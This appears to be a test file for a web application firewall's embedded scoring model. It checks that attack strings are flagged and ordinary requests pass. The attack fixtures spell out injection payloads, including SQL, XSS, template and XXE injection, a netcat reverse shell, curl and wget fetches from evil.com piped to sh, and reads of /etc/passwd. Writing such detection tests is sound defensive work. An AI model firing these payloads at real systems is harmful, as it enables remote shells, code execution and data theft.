// The embedded model end to end through core.wasm: unmistakable attacks score in the attack
// band with the right class lowest; ordinary traffic scores clean; scores are integers 1–99
// and deterministic. Cases marked `known` fail today; see test/KNOWN-DEVIATIONS.md.
import { beforeAll, describe, expect, it } from "vitest";
import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { type Core, loadCore, REPO_ROOT } from "../support/core";

// Blob format 1 (filter/core/model.ts): where the CAL section starts, 98 cuts a head.
const CUTS = 98;
const pad16 = (n: number) => (n + 15) & ~15;
function calOffset(v: DataView): number {
  const bits = v.getUint16(8, true), dim = v.getUint16(10, true), hidden = v.getUint16(12, true), heads = v.getUint16(14, true);
  let o = 64;
  for (const n of [(1 << bits) * dim, 4 * dim, hidden * dim, 4 * hidden, 4 * hidden, heads * hidden, 4 * heads, 4 * heads]) o = pad16(o + n);
  return o;
}

let core: Core;
beforeAll(async () => {
  core = await loadCore();
});

interface Attack { where: string; text: string; cls: string; known?: string }

// The brief's unmistakable attacks, in the place each naturally arrives.
const attacks: Attack[] = [
  { cls: "sqli", where: "query", text: "id=1' OR '1'='1" },
  { cls: "sqli", where: "query", text: "id=1 UNION SELECT username,password FROM users--" },
  { cls: "sqli", where: "body:form", text: "user=admin'--&pass=x" },
  { cls: "sqli", where: "body:json", text: '{"id":"1; DROP TABLE users--"}' },
  { cls: "sqli", where: "query", text: "id=1 AND SLEEP(5)" },
  { cls: "xss", where: "query", text: "q=<script>alert(1)</script>" },
  { cls: "xss", where: "body:json", text: '{"comment":"<img src=x onerror=alert(1)>"}' },
  { cls: "xss", where: "body:form", text: "c=<svg onload=alert(1)>" },
  { cls: "xss", where: "query", text: "u=javascript:alert(document.cookie)" },
  { cls: "rce", where: "body:form", text: "host=;cat /etc/passwd" },
  { cls: "rce", where: "query", text: "x=$(id)" },
  // The same in base64, padded: 8 characters.
  { cls: "rce", where: "query", text: "x=JChpZCk=" },
  // Short payloads in unpadded base64, as test tools' "flat" encoders send them: $(whoami), ' or 1=1--.
  { cls: "rce", where: "body:json", text: '{"test":"JCh3aG9hbWkp"}' },
  { cls: "sqli", where: "query", text: "test=JyBvciAxPTEtLQ" },
  { cls: "rce", where: "body:form", text: "host=example.com;id" },
  { cls: "rce", where: "body:form", text: "host=|nc -e /bin/sh 10.0.0.1 4444" },
  { cls: "rce", where: "body:form", text: "host=8.8.8.8;cat /etc/passwd" },
  { cls: "rce", where: "body:form", text: "host=example.com && curl http://evil.com/x.sh | sh" },
  { cls: "rce", where: "body:form", text: "host=;ls -la" },
  { cls: "rce", where: "body:form", text: "host=8.8.8.8;uname -a" },
  { cls: "rce", where: "query", text: "ip=127.0.0.1;id" },
  { cls: "rce", where: "query", text: "ip=127.0.0.1|whoami" },
  { cls: "rce", where: "body:json", text: '{"cmd":"`wget http://evil.com/x.sh`"}' },
  { cls: "traversal", where: "path", text: "/static/../../../../etc/passwd" },
  { cls: "traversal", where: "query", text: "file=../../../../etc/passwd" },
  { cls: "traversal", where: "query", text: "f=..%2F..%2F..%2Fetc%2Fpasswd" },
  { cls: "jndi", where: "header:User-Agent", text: "${jndi:ldap://evil.com/a}" },
  { cls: "jndi", where: "query", text: "x=${jndi:ldap://evil.com/a}" },
  { cls: "ssti", where: "query", text: "name={{7*7}}" },
  { cls: "ssti", where: "body:json", text: '{"name":"{{config.__class__.__init__.__globals__}}"}' },
  { cls: "ssrf", where: "query", text: "url=http://169.254.169.254/latest/meta-data/" },
  { cls: "xxe", where: "body:xml", text: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>' },
  { cls: "ldapi", where: "query", text: "user=*)(uid=*))(|(uid=*" },
  { cls: "nosqli", where: "body:json", text: '{"user":{"$ne":null},"pass":{"$ne":null}}' },
  { cls: "nosqli", where: "query", text: "username=\";return(true);var xyz='a" },
  { cls: "crlf", where: "query", text: "next=%0d%0aSet-Cookie:%20a=b" },
  { cls: "open_redirect", where: "query", text: "next=//evil.com" },
  { cls: "xss", where: "query", text: "q=top[/al/.source+/ert/.source](1)" },
  { cls: "xss", where: "query", text: "q=alert.call(null,1)" },
];

const benign: { name: string; where: string; text: string; known?: string }[] = [
  { name: "search query", where: "query", text: "q=how to select a good laptop" },
  { name: "search with 'union'", where: "query", text: "q=union station chicago hours" },
  { name: "search with 'drop'", where: "query", text: "q=drop shipping business ideas" },
  { name: "search with 1=1", where: "query", text: "q=what does 1=1 mean in math" },
  { name: "search with C++ and C#", where: "query", text: "q=c%2B%2B+vs+c%23" },
  { name: "catalogue filters", where: "query", text: "q=best+running+shoes+2024&page=2&sort=price_asc" },
  { name: "price range with &", where: "query", text: "price_min=10&price_max=100&category=shoes%20%26%20boots" },
  { name: "O'Brien in a query", where: "query", text: "name=O%27Brien&city=Dublin" },
  { name: "O'Brien in a form", where: "body:form", text: "first=Sean&last=O'Brien&email=sean.obrien%40example.com" },
  { name: "email with +", where: "query", text: "email=jane.doe%2Btest%40gmail.com" },
  { name: "local redirect", where: "query", text: "redirect=%2Fdashboard%3Ftab%3Dsettings" },
  { name: "dates and time zone", where: "query", text: "date=2024-05-01T10:00:00Z&tz=Europe%2FBerlin" },
  { name: "UUID", where: "query", text: "id=550e8400-e29b-41d4-a716-446655440000" },
  { name: "JWT in a query", where: "query", text: "token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSf36POk6yJV_adQssw5c" },
  { name: "JWT bearer header", where: "header:Authorization", text: "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSf36POk6yJV_adQssw5c" },
  { name: "product review with select/union/drop/O'Brien", where: "body:json", text: '{"review":"I had to select between two models; the union of features is great. Drop me a line if you want details, said Mr O\'Brien. 5 stars!"}' },
  { name: "review in a form", where: "body:form", text: "comment=Great+article%21+I+learned+a+lot+about+SQL+joins+and+the+UNION+operator." },
  { name: "JSON profile", where: "body:json", text: '{"name":"O\'Brien","email":"pat@example.com","age":34,"tags":["vip","newsletter"]}' },
  { name: "JSON order", where: "body:json", text: '{"order":{"items":[{"sku":"AB-123","qty":2},{"sku":"XY-9","qty":1}],"currency":"EUR","coupon":"SPRING10"}}' },
  { name: "JSON GraphQL query", where: "body:json", text: '{"query":"query { user(id: 42) { name email } }"}' },
  { name: "JSON with a strong password", where: "body:json", text: '{"password":"Tr0ub4dor&3!","username":"alice"}' },
  { name: "JSON with harmless HTML", where: "body:json", text: '{"html":"<p>Hello <b>world</b></p>"}' },
  { name: "plain-text message", where: "body:text", text: "Hello, I would like to know if you ship to Canada. Thanks!" },
  { name: "Chrome User-Agent", where: "header:User-Agent", text: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36" },
  { name: "Safari iOS User-Agent", where: "header:User-Agent", text: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1" },
  { name: "Referer URL", where: "header:Referer", text: "https://www.example.com/products/shoes?color=red&size=42" },
  { name: "Google Referer", where: "header:Referer", text: "https://www.google.com/search?q=wafscore+envoy&oq=wafscore&sourceid=chrome&ie=UTF-8" },
  { name: "analytics cookie", where: "header:Cookie", text: "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; _fbp=fb.1.1700000000000.123456789" },
  { name: "session cookie", where: "header:Cookie", text: "session=3f7a9c2e1b4d8f6a; theme=dark; lang=en-US" },
  { name: "API path", where: "path", text: "/api/v1/users/42/orders" },
  { name: "blog path with 'select'", where: "path", text: "/blog/2024/05/how-to-select-the-right-database" },
  { name: "static asset path", where: "path", text: "/static/js/app.3f9a2c.min.js" },
  { name: "a run of one letter", where: "query", text: "q=aaaaaaaaaa" },
  { name: "another run of one letter", where: "query", text: "q=zzzzzzzzzz" },
  { name: "100 x's of filler text", where: "body:text", text: "x".repeat(100) },
  { name: "a short sentence repeated", where: "body:form", text: `comment=${"All good here, thanks. ".repeat(50).slice(0, 1016)}` },
];

const min = (o: Record<string, number>) => Math.min(...Object.values(o));

describe("the embedded model", () => {
  // An invalid model (say, trained on another feature spec) scores everything 99: say so first.
  it("is valid for this core", () => {
    expect(core.modelError()).toBeNull();
  });
});

describe("attacks score 1–20 with the right class lowest", () => {
  for (const a of attacks) {
    (a.known ? it.fails : it)(`${a.cls} in ${a.where}: ${a.text}`, () => {
      const r = core.score(a.where, a.text);
      expect({ score: r.score <= 20, worstClass: r.worstClass, classLowest: r.classes[a.cls] === min(r.classes) })
        .toEqual({ score: true, worstClass: a.cls, classLowest: true });
    });
  }
});

// Stricter: the class's own score (x-waf-<class>-score) is in the attack band as well, so a
// rule on the class header catches what the overall score catches.
describe("the attack's class score is 1–20 too", () => {
  for (const a of attacks.filter((x) => !x.known)) {
    it(`${a.cls} in ${a.where}: ${a.text}`, () => {
      expect(core.score(a.where, a.text).classes[a.cls]).toBeLessThanOrEqual(20);
    });
  }
});

// A payload keeps its score whatever ordinary text comes before it in the same value: the
// features of a window are averaged, so prose around a payload must not hide it.
describe("a payload after ordinary text is still flagged", () => {
  const PROSE = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ";
  const pad = (n: number) => PROSE.repeat(Math.ceil(n / PROSE.length) + 1).slice(0, n);
  const LENGTHS = [0, 10, 100, 1000, 100_000, (1 << 20) - 100];
  // UNION SELECT has a verdict of its own (core/sqlverdict.ts), read over the whole text; a
  // tautology is the model's alone, read in the window that holds it and, when prose dilutes it
  // there, in that window's pieces (core/zoom.ts).
  const CASES: Array<[string, string]> = [
    ["union", " ' UNION SELECT password FROM users--"],
    ["tautology", " ' OR '1'='1' --"],
  ];
  for (const [kind, payload] of CASES) {
    for (const n of LENGTHS) {
      it(`${kind} after ${n} bytes`, () => {
        expect(core.score("query", `q=${pad(n)}${payload}`).score).toBeLessThanOrEqual(20);
      });
    }
  }
});

// The bag of features is a mean: a payload with a few hundred bytes of prose around it in its
// window was read diluted (` ' OR 1=1--` after 200 bytes scored 60, `<script>` after 200 bytes 28,
// `;cat /etc/passwd` after 100 bytes 38). The filter scores a window that a lexer may confirm and
// that reads as prose again in pieces around its runs of syntax (core/zoom.ts), and a run that
// opens as a payload does alone: a quote ending a word, a tag, a template's expression, a shell's
// separator with its command's options, a line break opening a header line.
describe("a payload in a value's prose is not diluted by it", () => {
  const PROSE = "Great product, fast shipping and the support team answered every question within a day. ";
  const prose = (n: number) => PROSE.repeat(Math.ceil(n / PROSE.length) + 1).slice(0, n);
  const PAYLOADS = ["' OR '1'='1' --", "' OR 1=1--", "<script>alert(1)</script>", ";cat /etc/passwd", "../../../../etc/passwd", "{{7*7}}",
    "admin'--", "admin' || '1'=='1", "<svg onload=alert(1)>", ";ls -la", "\r\nSet-Cookie: a=b",
    // More syntax than prose holds (17 to 48 bytes), all in one span of the window.
    "<xml id=\"x\"><a><b><script>document.cookie=true;</script>;</b></a></xml>"];
  for (const payload of PAYLOADS) {
    for (const n of [100, 200, 300, 1000]) {
      it(`${JSON.stringify(payload)} after and before ${n} bytes of prose`, () => {
        for (const text of [`${prose(n)} ${payload}`, `${payload} ${prose(n)}`, `${prose(n)} ${payload} ${prose(n)}`]) {
          const r = core.score("body:form", `comment=${encodeURIComponent(text)}`);
          expect(r.score, `${r.worstClass} "${r.worstText}"`).toBeLessThanOrEqual(20);
        }
      });
    }
  }
});

// A part's windows over the gate are lowered by how many there are (core/score.ts crowdShift): a
// document in one field has hundreds of windows its markup or code confirms, and the most extreme of
// them is no attack's. Prose around a payload is under the gate, and a window repeated is counted once.
describe("a document in one field", () => {
  // An editor's settings written line by line, 6 KiB: every window holds `echo`, quotes and `&&`.
  const KEYS = ["browse", "limitSymbolsToIncludedHeaders", "databaseFilename", "includePath", "defines", "compilerPath", "cStandard", "intelliSenseMode", "path", "name", "configurations", "version"];
  let script = "#!/bin/sh\n# Writes the editor's settings for this checkout.\n\ndie () {\n\techo \"$*\" >&2\n\texit 1\n}\n\n" +
    "cd \"$(dirname \"$0\")\"/../.. || die \"Could not cd to top-level directory\"\n\nmkdir -p .vscode || die \"Could not create .vscode/\"\n\n";
  for (let i = 0; i < 120; i++) script += `\techo '    "${KEYS[i % 12]}${i}": ${i % 3 ? `"${KEYS[(i * 5) % 12]}"` : i % 2 ? "true" : "[]"},' && \\\n`;
  script += "\techo '}' >.vscode/settings.json\n";

  it("is not flagged by the worst of its many windows, which alone is", () => {
    const json = core.score("body:json", JSON.stringify({ title: "Notes", content: script }));
    const form = core.score("body:form", `title=Notes&content=${encodeURIComponent(script)}`);
    expect(json.score, `${json.worstClass} "${json.worstText}"`).toBeGreaterThan(20);
    expect(form.score, `${form.worstClass} "${form.worstText}"`).toBeGreaterThan(20);
    expect(core.score("body:json", JSON.stringify({ title: "Notes", content: json.worstText })).score).toBeLessThanOrEqual(20);
  });

  const PAYLOAD = '${"freemarker.template.utility.Execute"?new()("id")}';
  const WORDS = ["order", "arrived", "early", "fabric", "sturdy", "stitching", "neat", "size", "chart", "right", "would", "buy", "again", "shop", "the", "and", "was", "for", "my", "a", "with", "very"];
  it("a payload behind 12 KiB of prose is not lowered by it", () => {
    let seed = 3, prose = "";
    while (prose.length < 12 * 1024) {
      const words: string[] = [];
      for (let i = 6 + (seed % 10); i > 0; i--) { seed = (Math.imul(seed, 1103515245) + 12345) >>> 0; words.push(WORDS[(seed >>> 8) % WORDS.length]); }
      prose += words.join(" ") + ". ";
    }
    const r = core.score("body:json", JSON.stringify({ content: `${prose} ${PAYLOAD} Thanks.` }));
    expect(r.score, `${r.worstClass} "${r.worstText}"`).toBeLessThanOrEqual(20);
    expect(r.worstClass).toBe("ssti");
  });

  it("a window repeated is counted once", () => {
    // 192 bytes, the windows' step: every window of the repeated text holds the same bytes.
    const block = `echo '  "name": "x",' && \\\n\techo '  ${PAYLOAD}' && \\\n`.padEnd(192, " and then ").slice(0, 192);
    const twice = core.score("body:json", JSON.stringify({ content: block.repeat(2) }));
    expect(twice.score).toBeLessThanOrEqual(20);
    expect(core.score("body:json", JSON.stringify({ content: block.repeat(40) })).score).toBe(twice.score);
  });
});

// The pieces' rules read prose's quotes, parentheses, dashes and line breaks as prose's.
describe("prose with a little syntax of its own scores clean", () => {
  const TEXTS = [
    "The students' essays -- all forty of them -- were marked by Friday, and the results (with comments) went out on Monday morning as promised.",
    "He said \"it's fine, really\" and then asked whether the store could hold the order until Tuesday; we said yes, of course, no problem at all.",
    "Thanks for the quick reply!\r\nFollow-up: the replacement arrived today and works, but the charger is missing from the box again.\r\nBest regards, Anna",
    "I'd rate it 4/5 overall. The lid is a bit loose & the handle gets warm, but for the price (under $30) it's a solid kettle that boils fast.",
  ];
  for (const text of TEXTS) {
    it(JSON.stringify(text.slice(0, 60)), () => {
      for (const [where, t] of [["body:form", `comment=${encodeURIComponent(text)}`], ["body:json", JSON.stringify({ comment: text })]] as const) {
        const r = core.score(where, t);
        expect(r.score, `${where}: ${r.worstClass} "${r.worstText}"`).toBeGreaterThan(80);
      }
    });
  }
});

// A password manager's password is a random string of symbols: in a field named as a password
// (core/secrets.ts) a class under the gate keeps no overall score, and only a class whose own
// logit is over the gate and confirmed flags it. The same string elsewhere is read as before.
describe("a password field", () => {
  // Passwords the embedded model flags in another field, so that the field's name is what keeps them clean: which
  // ones depends on the model. These two, for `b8b0eb87`, are among the first twelve such of test/fuzz/passwords.ts's
  // kind (node/prng.ts seed 777); the other ten, and `)"'|&uc#<Sr+j` of the earlier models' list, are flagged in a
  // password field too (test/KNOWN-DEVIATIONS.md, model-password-class-over-gate). (`$<oD9}(Ra8k|(%{(R0=$]` was
  // one: its `<oD9 … R0=` is no longer a tag that acts anywhere.)
  const PASSWORDS = ["a[mU`>Am)hV+", "d+}D]'+gd!RuN3IsM"];
  for (const pw of PASSWORDS) {
    it(`holding ${JSON.stringify(pw)} scores clean, where another field holding it is flagged`, () => {
      for (const name of ["password", "user[password]", "new_passwd", "pwd", "pass"]) {
        const r = core.score("body:form", `username=anna&${encodeURIComponent(name)}=${encodeURIComponent(pw)}`);
        expect(r.score, `${name}: ${r.worstClass}`).toBeGreaterThan(20);
      }
      expect(core.score("body:form", `username=anna&comment=${encodeURIComponent(pw)}`).score).toBeLessThanOrEqual(20);
    });
  }
  it("holding an injection is still flagged", () => {
    for (const v of ["' OR '1'='1", "admin'--", "$(id)", "<script>alert(1)</script>", "${jndi:ldap://x.y/a}"]) {
      expect(core.score("body:form", `username=admin&password=${encodeURIComponent(v)}`).score, v).toBeLessThanOrEqual(20);
    }
    expect(core.score("body:json", '{"username":"admin","password":{"$ne":null}}').score).toBeLessThanOrEqual(20);
  });
  it.fails("holding a quote before an operator that a class over the gate reads as sqli scores clean (model-password-class-over-gate)", () => {
    expect(core.score("body:form", `username=anna&password=${encodeURIComponent(")\"'|&uc#<Sr+j")}`).score).toBeGreaterThan(20);
  });
  it("is named by its name's words, not by a word that holds `pass`", () => {
    const pw = PASSWORDS[0];
    for (const name of ["passenger", "compass", "bypass_reason"]) {
      expect(core.score("body:form", `${name}=${encodeURIComponent(pw)}`).score, name).toBeLessThanOrEqual(20);
    }
  });
});

describe("ordinary traffic scores 80–99", () => {
  for (const { name, where, text, known } of benign) {
    (known ? it.fails : it)(name, () => {
      const r = core.score(where, text);
      expect(r.score, `worst class ${r.worstClass}, part ${r.worstWhere}:${r.worstName} "${r.worstText}"`).toBeGreaterThanOrEqual(80);
    });
  }

  it("a whole ordinary request scores clean", () => {
    const r = core.scoreParts([
      ["path", "/api/v1/orders"], ["query", "page=2&sort=date"],
      ["header:User-Agent", benign.find((b) => b.name === "Chrome User-Agent")!.text],
      ["header:Cookie", "session=3f7a9c2e1b4d8f6a; theme=dark"],
      ["body:json", '{"items":[{"sku":"AB-123","qty":2}],"note":"please select express delivery"}'],
    ]);
    expect(r.score).toBeGreaterThanOrEqual(80);
  });
});

describe("scores", () => {
  const all = [...attacks.map((a) => [a.where, a.text]), ...benign.map((b) => [b.where, b.text])] as [string, string][];

  it("are integers within 1–99, overall and per class", () => {
    for (const [where, text] of all) {
      const r = core.score(where, text);
      for (const v of [r.score, ...Object.values(r.classes)]) {
        expect(Number.isInteger(v) && v >= 1 && v <= 99, `${v} for ${where} ${text}`).toBe(true);
      }
    }
  });

  it("name every head but the overall one as a class", () => {
    expect(core.heads[0]).toBe("attack");
    expect(Object.keys(core.score("query", "a=1").classes)).toEqual(core.heads.slice(1));
  });

  it("are deterministic: the same input twice, and after other requests, scores the same", () => {
    const first = all.map(([w, t]) => core.score(w, t));
    const again = all.map(([w, t]) => core.score(w, t));
    const reversed = [...all].reverse().map(([w, t]) => core.score(w, t)).reverse();
    expect(again).toEqual(first);
    expect(reversed).toEqual(first);
  });

  it("are 99 for a request with nothing to score", () => {
    const r = core.scoreParts([["path", ""], ["query", ""], ["body:json", "{}"]]);
    expect(r.score).toBe(99);
    expect(r.parts).toBe(0);
  });

  // scoreOf bisects the cut points when they descend and counts them when they do not: both must
  // give 1 + the number of cuts above the logit, and RequestScores no less than the overall head's
  // score at the gate for a logit at or under it (core/score.ts score()). Checked on model.bin, and on a copy with two cuts
  // of each head swapped (checksum redone) so that the counting path runs too.
  it("are 1 + the number of the model's cut points above each head's logit", async () => {
    const blob = new Uint8Array(readFileSync(resolve(REPO_ROOT, "models/artifacts/model.bin")));
    const swapped = blob.slice();
    const v = new DataView(swapped.buffer);
    const cal = calOffset(v);
    const heads = v.getUint16(14, true);
    for (let k = 0; k < heads; k++) {
      const a = cal + (k * CUTS + 10) * 4, b = a + 40;
      const x = v.getFloat32(a, true);
      v.setFloat32(a, v.getFloat32(b, true), true);
      v.setFloat32(b, x, true);
    }
    let h = 0x811c9dc5;
    for (let i = 64; i < swapped.length; i++) h = Math.imul(h ^ swapped[i], 0x01000193) >>> 0;
    v.setUint32(28, h, true);
    const fresh = await loadCore();
    for (const model of [blob, swapped]) {
      fresh.useModel(model);
      const mv = new DataView(model.buffer, model.byteOffset, model.byteLength);
      const above = (k: number, logit: number) => {
        let count = 1;
        for (let i = 0; i < CUTS; i++) if (mv.getFloat32(cal + (k * CUTS + i) * 4, true) > Math.fround(logit)) count++;
        return count;
      };
      // At or under the gate (logit 0) no head scores under the overall head's score there.
      const gate = above(0, 0);
      expect(gate).toBeGreaterThan(80);
      for (const [where, text] of all) {
        const r = fresh.score(where, text);
        for (let k = 0; k < heads; k++) {
          const count = above(k, r.logits[k]);
          expect(k === 0 ? r.score : r.classes[fresh.heads[k]], `head ${k} of ${where} ${text}`).toBe(r.logits[k] <= 0 ? Math.max(count, gate) : count);
        }
      }
    }
  });

  it("of a request are the worst over its parts, whatever their order", () => {
    const parts: [string, string][] = [["path", "/search"], ["query", "q=shoes"], ["header:User-Agent", "curl/8.5.0"], ["body:form", "c=<svg onload=alert(1)>"]];
    const whole = core.scoreParts(parts);
    const single = parts.map(([w, t]) => core.score(w, t));
    expect(whole.score).toBe(Math.min(...single.map((s) => s.score)));
    for (const k of Object.keys(whole.classes)) expect(whole.classes[k]).toBe(Math.min(...single.map((s) => s.classes[k])));
    expect(core.scoreParts([...parts].reverse()).score).toBe(whole.score);
  });
});
